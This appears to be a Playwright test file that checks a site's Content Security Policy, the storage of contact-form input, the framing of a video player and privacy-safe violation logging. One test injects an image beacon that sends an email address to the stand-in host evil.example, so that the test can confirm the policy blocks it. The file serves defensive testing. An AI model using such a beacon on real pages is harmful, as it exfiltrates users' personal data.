import { expect, waitForHydration } from "#tests/support/journey.ts";
import { test } from "#tests/support/journey-with-content.ts";

/** Every journey checks for violations (tests/support/journey.ts); these are other ways to a page. */

test("navigations and an invalid form violate no policy, and the browser keeps input in the tab only", async ({
  page,
}) => {
  await page.goto("/");
  await waitForHydration(page);
  await page.locator('main a[href="/contact-us"], header a[href="/contact-us"]').first().click();
  await expect(page).toHaveTitle(/Contact/);
  await page.getByLabel("Country", { exact: true }).fill("Neverland");
  await page.getByRole("button", { name: "Send enquiry" }).click();
  await expect(page.getByLabel("Name", { exact: true })).toBeFocused();
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + document.cookie);
  expect(stored).not.toContain("Neverland");
  expect(await page.evaluate(() => JSON.stringify({ ...sessionStorage }))).toContain("Neverland");

  await page.goto("/contact-us");
  await page.evaluate(() => document.querySelector<HTMLFormElement>('main form[method="post"]')?.submit());
  await expect(page).toHaveTitle(/^Error: /);
  await waitForHydration(page);
});

test.describe("with missing pages", () => {
  test.use({ expected: /youtube-nocookie/ });

  test("the video host's player may be framed by the page, after the click", async ({ page, site, edit }) => {
    await page.route(/youtube-nocookie\.com/, (route) =>
      route.fulfill({ contentType: "text/html", body: "<title>Player</title><h1>Player</h1>" }),
    );
    edit("video-testimonials.yaml", (text) =>
      text.replace(/youtube_url: .*/, "youtube_url: https://www.youtube.com/watch?v=aB3_-xyz019"),
    );
    await expect
      .poll(async () => (await (await fetch(`${site.url}/about`)).text()).includes("aB3_-xyz019"))
      .toBe(true);
    await page.goto("/about");
    await waitForHydration(page);
    await page.locator('a[href*="aB3_-xyz019"]').first().click();
    const player = page.getByRole("dialog").locator("iframe").contentFrame();
    await expect(player.getByRole("heading", { name: "Player" })).toBeVisible();
  });
});

test.describe("when a page violates its policy", () => {
  test.use({ expected: /evil\.example/ });

  test("the browser reports it, and the site logs only directive, host and route", async ({ page, site }) => {
    await page.goto("/contact-us?mail=ada@example.com");
    await page.evaluate(() => {
      const picture = new Image();
      picture.src = "https://evil.example/x.png?mail=ada@example.com";
      document.body.append(picture);
    });
    await expect.poll(() => site.output(), { timeout: 20_000 }).toContain("policy violated");
    const line = site
      .output()
      .split("\n")
      .find((one) => one.includes("policy violated"));
    expect(JSON.parse(line ?? "")).toMatchObject({
      directive: "img-src",
      blocked: "https://evil.example",
      route: "/contact-us",
    });
    expect(site.output()).not.toContain("ada@");
  });
});
